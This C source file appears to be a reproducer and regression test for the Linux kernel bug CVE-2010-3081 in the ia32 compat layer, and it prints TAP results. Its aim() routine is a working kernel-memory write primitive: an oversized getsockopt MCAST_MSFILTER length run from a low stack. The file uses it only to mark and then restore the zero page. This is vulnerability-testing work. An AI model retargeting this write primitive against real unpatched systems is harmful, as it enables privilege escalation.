/*
 * c3081.c - CVE-2010-3081 reproducer and regression tests; built 32-bit
 * only (c3081-32): the bug lives in the ia32 emulation layer of an x86_64
 * kernel.  Not yet run by init: the kit's lead wires it in (see
 * docs/cve-2010-3081.md).  Run by hand it prints TAP on stdout.
 *
 * The bug: compat_alloc_user_space(len) returned "user stack pointer - len"
 * with no check that the result is still user space.  A 32-bit task's
 * stack pointer is a 32-bit number it chooses; with len larger than it the
 * subtraction wraps into the top of the 64-bit address space, where the
 * kernel image lives.  A caller that then writes through the pointer with
 * __put_user() (no access_ok()) writes where the task pointed it.  On the
 * kit's kernels the caller that does so with a user-sized length is
 * compat_mc_getsockopt() (getsockopt(SOL_IP, MCAST_MSFILTER) from a 32-bit
 * task; CONFIG_INET): it stores gf_interface, gf_fmode and gf_numsrc, the
 * caller's own values, at kgf+0, +136 and +140 before a checked copy fails.
 *
 * The state check, decided without a timeout: aim kgf at the kernel's
 * empty_zero_page (first page of the kernel's bss: /proc/iomem "Kernel bss",
 * mapped at __START_KERNEL_map + physical), then read the zero page back
 * through /proc/self/mem at an untouched anonymous page (the kernel hands
 * out ZERO_PAGE for those: FOLL_ANON before 2.6.32, the zero pfn on
 * 2.6.32).  Unpatched, our three markers are there: the kernel wrote
 * user-chosen data at a kernel address.  Fixed (c41d68a513c7: the generic
 * compat_alloc_user_space() refuses the area, the caller gets NULL and
 * faults on page 0), the zero page stays zero and the call fails.  When
 * the markers are seen, the same call writes zeros back at once.
 *
 * Regression tests: the same compat paths with a sane stack and length
 * (MCAST_JOIN_GROUP, MCAST_MSFILTER; timer_create; vmsplice) work.
 *
 * As PID 1 (rdinit=/bin/c3081-32, by hand) it mounts /proc first and
 * reboots at the end.
 */
#include "kit.h"

KIT_ENTRY(kit_start);

#if KIT_BITS != 32
#error "c3081.c is built -m32 only: it exercises the ia32 compat layer"
#endif

enum {
	NR_munmap = 91, NR_socketcall = 102, NR_pread64 = 180, NR_mmap2 = 192,
	NR_timer_create = 259, NR_timer_delete = 263, NR_vmsplice = 316,
};
#define SYS_SOCKET	1
#define SYS_SETSOCKOPT	14
#define SYS_GETSOCKOPT	15
#define AF_INET		2
#define SOCK_DGRAM	2
#define SOL_IP		0
#define MCAST_JOIN_GROUP 42
#define MCAST_MSFILTER	48
#define PROT_READ	1
#define PROT_WRITE	2
#define MAP_PRIVATE	0x02
#define MAP_FIXED	0x10
#define MAP_ANONYMOUS	0x20
#define KIT_EFAULT	14
#define KIT_ENOSYS	38

/* x86_64: where the kernel image is mapped (__START_KERNEL_map) */
#define KERNEL_MAP	0xffffffff80000000ULL
/* the stack the exploit call runs on: low, so that len > sp is reachable */
#define LOW_PAGE	0x00100000UL
/* offsets the unpatched kernel writes at: struct group_filter, x86_64 */
#define OFF_IFACE	0
#define OFF_FMODE	136
#define OFF_NUMSRC	140
#define GF0_SIZE	144	/* GROUP_FILTER_SIZE(0) on x86_64 */

/* the compat (i386) layouts: 4-byte aligned, no padding */
struct c_sockaddr_storage { unsigned char b[128]; };
struct c_group_req { unsigned int gr_interface; struct c_sockaddr_storage gr_group; };
struct c_group_filter {
	unsigned int gf_interface;
	struct c_sockaddr_storage gf_group;
	unsigned int gf_fmode, gf_numsrc;
	struct c_sockaddr_storage gf_slist[1];
};
struct c_iovec { unsigned int base, len; };
struct c_sigevent { int sigval, signo, notify, pad[13]; };	/* 64 bytes */

static int ntest;
static int nfail;

static void tap(int ok, const char *name, const char *diag)
{
	struct line l; l.n = 0;

	l_s(&l, ok ? "ok " : "not ok ");
	l_u(&l, (ulong)++ntest);
	l_s(&l, " - ");
	l_s(&l, name);
	if (diag) {
		l_s(&l, " # ");
		l_s(&l, diag);
	}
	l_nl(&l, 1);
	nfail += !ok;
}

static void skip(const char *name, const char *why)
{
	struct line l; l.n = 0;

	l_s(&l, "ok ");
	l_u(&l, (ulong)++ntest);
	l_s(&l, " - ");
	l_s(&l, name);
	l_s(&l, " # SKIP ");
	l_s(&l, why);
	l_nl(&l, 1);
}

static void note(const char *k, unsigned long long v, const char *k2, long v2)
{
	struct line l; l.n = 0;

	l_s(&l, "# c3081 ");
	l_s(&l, k);
	l_c(&l, '=');
	l_x(&l, v);
	if (k2) {
		l_c(&l, ' ');
		l_s(&l, k2);
		l_c(&l, '=');
		l_d(&l, v2);
	}
	l_nl(&l, 1);
}

static long socketcall(int call, unsigned int *args)
{
	return sc2(NR_socketcall, call, args);
}

/* socketcall(call, args) entered with %esp = sp (sys.h) */
static long socketcall_on(int call, unsigned int *args, ulong sp)
{
	return sc2_on_stack(NR_socketcall, call, (long)args, sp);
}

static void group_224_0_0_251(struct c_sockaddr_storage *ss)
{
	kit_memset(ss, 0, sizeof(*ss));
	ss->b[0] = AF_INET;	/* sin_family, little endian */
	ss->b[4] = 224;		/* sin_addr 224.0.0.251, network order */
	ss->b[7] = 251;
}

static unsigned int rd32(const unsigned char *p)
{
	return p[0] | (unsigned)p[1] << 8 | (unsigned)p[2] << 16 | (unsigned)p[3] << 24;
}

/* physical start of "Kernel bss" from /proc/iomem, rounded up to a page; 0 if absent */
static unsigned long long kernel_bss(void)
{
	static char buf[8192];
	long n = 0, r, fd = sys_open("/proc/iomem", O_RDONLY, 0);
	const char *p;
	unsigned long long v = 0;

	if (fd < 0)
		return 0;
	while (n < (long)sizeof(buf) - 1 && (r = sys_read((int)fd, buf + n, sizeof(buf) - 1 - (ulong)n)) > 0)
		n += r;
	sys_close((int)fd);
	buf[n] = 0;
	p = kit_memstr(buf, (ulong)n, " : Kernel bss");
	if (!p)
		return 0;
	while (p > buf && p[-1] != '\n')
		p--;
	while (*p == ' ')
		p++;
	for (;; p++) {
		int d;

		if (*p >= '0' && *p <= '9')
			d = *p - '0';
		else if (*p >= 'a' && *p <= 'f')
			d = *p - 'a' + 10;
		else
			break;
		v = v * 16 + (unsigned)d;
	}
	return (v + 4095) & ~4095ULL;
}

/* the first GF0_SIZE bytes of the zero page, read at an untouched anonymous page */
static long zero_page(ulong anon, unsigned char *out)
{
	long fd = sys_open("/proc/self/mem", O_RDONLY, 0), r;

	if (fd < 0)
		return fd;
	r = sc5(NR_pread64, fd, out, GF0_SIZE, anon, 0);
	sys_close((int)fd);
	return r == GF0_SIZE ? 0 : (r < 0 ? r : -1);
}

/*
 * getsockopt(SOL_IP, MCAST_MSFILTER) on a stack pointer of LOW_PAGE's top
 * with a length chosen so that the unpatched compat_alloc_user_space()
 * returns `target`: kgf = sp - (ulen + 4 + 4) (the pad, then the room
 * for the earlier optlen allocation).  An unpatched kernel writes three
 * words there: marker, marker ^ 0x01010101, marker ^ 0x02020202 (marker 0:
 * three zeros, which puts the zero page back).
 */
static long aim(int fd, unsigned long long target, unsigned int marker)
{
	static struct c_group_filter gf;
	static unsigned int args[5];
	unsigned int *optlen = (unsigned int *)(LOW_PAGE + 64);
	ulong sp = LOW_PAGE + 4096;

	gf.gf_interface = marker;
	gf.gf_fmode = marker ? marker ^ 0x01010101 : 0;
	gf.gf_numsrc = marker ? marker ^ 0x02020202 : 0;
	group_224_0_0_251(&gf.gf_group);
	*optlen = (unsigned int)((unsigned long long)sp - 8 - target);
	args[0] = (unsigned)fd; args[1] = SOL_IP; args[2] = MCAST_MSFILTER;
	args[3] = (unsigned)(ulong)&gf; args[4] = (unsigned)(ulong)optlen;
	return socketcall_on(SYS_GETSOCKOPT, args, sp);
}

static void regress_mcast(int fd)
{
	static struct c_group_req gr;
	static struct c_group_filter gf;
	static unsigned int args[5];
	unsigned int optlen = sizeof(gf);
	long r;

	gr.gr_interface = 1;	/* lo */
	group_224_0_0_251(&gr.gr_group);
	args[0] = (unsigned)fd; args[1] = SOL_IP; args[2] = MCAST_JOIN_GROUP;
	args[3] = (unsigned)(ulong)&gr; args[4] = sizeof(gr);
	r = socketcall(SYS_SETSOCKOPT, args);
	tap(r == 0, "regress: compat setsockopt MCAST_JOIN_GROUP (224.0.0.251 on lo) succeeds", r ? "failed" : 0);
	if (r)
		note("join_err", 0, "r", r);

	gf.gf_interface = 1;
	group_224_0_0_251(&gf.gf_group);
	gf.gf_fmode = 7;
	gf.gf_numsrc = 7;
	args[2] = MCAST_MSFILTER;
	args[3] = (unsigned)(ulong)&gf; args[4] = (unsigned)(ulong)&optlen;
	r = socketcall(SYS_GETSOCKOPT, args);
	if (r)
		note("msfilter_err", 0, "r", r);
	tap(r == 0 && gf.gf_fmode == 0 /* MCAST_EXCLUDE */ && gf.gf_numsrc == 0 &&
	    optlen == 4 + 128 + 4 + 4,
	    "regress: compat getsockopt MCAST_MSFILTER with a sane length returns the joined group's filter (exclude, no sources)",
	    r ? "failed" : 0);
}

static void regress_timer(void)
{
	static struct c_sigevent ev;
	int id = -1;
	long r;

	ev.notify = 1;	/* SIGEV_NONE */
	r = sc3(NR_timer_create, 1 /* CLOCK_MONOTONIC */, &ev, &id);
	if (r == -KIT_ENOSYS) {	/* 6.1's tinyconfig: no CONFIG_POSIX_TIMERS */
		skip("regress: compat timer_create with a sigevent succeeds", "no timer_create (ENOSYS)");
		return;
	}
	tap(r == 0 && id >= 0, "regress: compat timer_create with a sigevent succeeds", r ? "failed" : 0);
	if (r == 0)
		sc1(NR_timer_delete, id);
	else
		note("timer_err", 0, "r", r);
}

static void regress_vmsplice(void)
{
	static char a[] = "kit-", b[] = "vmsplice";
	static struct c_iovec iov[2];
	char got[16];
	int p[2];
	long r, n = 0, k;

	if (sys_pipe(p)) {
		tap(0, "regress: compat vmsplice of two iovecs into a pipe", "pipe failed");
		return;
	}
	iov[0].base = (unsigned)(ulong)a; iov[0].len = 4;
	iov[1].base = (unsigned)(ulong)b; iov[1].len = 8;
	r = sc4(NR_vmsplice, p[1], iov, 2, 0);
	while (r == 12 && n < 12 && (k = sys_read(p[0], got + n, (ulong)(12 - n))) > 0)
		n += k;
	tap(r == 12 && n == 12 && kit_memstr(got, 12, "kit-vmsplice") == got,
	    "regress: compat vmsplice of two iovecs into a pipe", r == 12 ? 0 : "failed");
	if (r != 12)
		note("vmsplice_err", 0, "r", r);
	sys_close(p[0]);
	sys_close(p[1]);
}

static int changed(const unsigned char *z)
{
	return rd32(z + OFF_IFACE) || rd32(z + OFF_FMODE) || rd32(z + OFF_NUMSRC);
}

static void cve(int fd)
{
	unsigned long long bss = kernel_bss(), target;
	unsigned char z[GF0_SIZE];
	long anon, low, r, zr;
	int i, zero = 1;

	if (!bss) {
		tap(0, "precond: /proc/iomem names the kernel's bss", "no 'Kernel bss' line");
		return;
	}
	target = KERNEL_MAP + bss;
	note("target", target, 0, 0);
	anon = sc5(NR_mmap2, 0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	low = sc5(NR_mmap2, LOW_PAGE, 4096, PROT_READ | PROT_WRITE,
		  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);
	zr = (anon < 0 && anon > -4096) ? anon : zero_page((ulong)anon, z);
	for (i = 0; !zr && i < GF0_SIZE; i++)
		zero &= !z[i];
	tap(low == (long)LOW_PAGE && !zr && zero,
	    "precond: a low stack page maps and the zero page reads back as zeros",
	    low != (long)LOW_PAGE ? "mmap at 0x100000 failed" : zr ? "/proc/self/mem read failed" : zero ? 0 : "zero page not zero");
	if (low != (long)LOW_PAGE || zr || !zero)
		return;

	r = aim(fd, target, 0x4b495433 /* "3TIK" */);
	note("aimed_call", (unsigned long long)target, "r", r);
	zr = zero_page((ulong)anon, z);
	tap(!zr && !changed(z),
	    "cve-state: the kernel did not write the caller's values at the kernel address compat_alloc_user_space() computed",
	    zr ? "/proc/self/mem read failed" : changed(z) ? "zero page holds our markers: kernel memory written" : 0);
	if (!zr && changed(z)) {
		note("zero_page_iface", rd32(z + OFF_IFACE), 0, 0);
		note("zero_page_fmode", rd32(z + OFF_FMODE), 0, 0);
		/* the same write with zeros puts the zero page back */
		aim(fd, target, 0);
		zr = zero_page((ulong)anon, z);
		note("zero_page_restored", !zr && !changed(z), 0, 0);
	}
	/* EFAULT on 2.6, fixed or not; 6.1 copies the filter into a kernel
	 * buffer first and says EADDRNOTAVAIL */
	tap(r < 0, "regress: the oversized call fails (it never succeeds)", r < 0 ? 0 : "it succeeded");
}

int kit_start(void)
{
	long fd;
	unsigned int args[3] = { AF_INET, SOCK_DGRAM, 0 };
	struct line l; l.n = 0;
	int pid1 = sys_getpid() == 1;

	if (pid1) {
		sys_mkdir("/proc", 0755);
		sys_mount("proc", "/proc", "proc", 0, 0);
	}
	l_s(&l, "TAP version 13");
	l_nl(&l, 1);
	regress_timer();
	regress_vmsplice();
	fd = socketcall(SYS_SOCKET, args);
	if (fd < 0) {
		note("socket_err", 0, "r", fd);
		skip("regress: compat setsockopt MCAST_JOIN_GROUP", "no IPv4 socket (kernel without CONFIG_INET)");
		skip("regress: compat getsockopt MCAST_MSFILTER", "no IPv4 socket (kernel without CONFIG_INET)");
		skip("cve-state: compat getsockopt MCAST_MSFILTER with a length larger than the stack pointer",
		     "no IPv4 socket: the reachable unchecked caller needs CONFIG_INET");
	} else {
		regress_mcast((int)fd);
		cve((int)fd);
	}
	l_s(&l, "1..");
	l_u(&l, (ulong)ntest);
	l_nl(&l, 1);
	l_s(&l, "# c3081 done failed=");
	l_u(&l, (ulong)nfail);
	l_nl(&l, 1);
	if (pid1)
		sys_reboot(0x01234567);	/* LINUX_REBOOT_CMD_RESTART: -no-reboot ends QEMU */
	sys_exit(nfail ? 1 : 0);
}
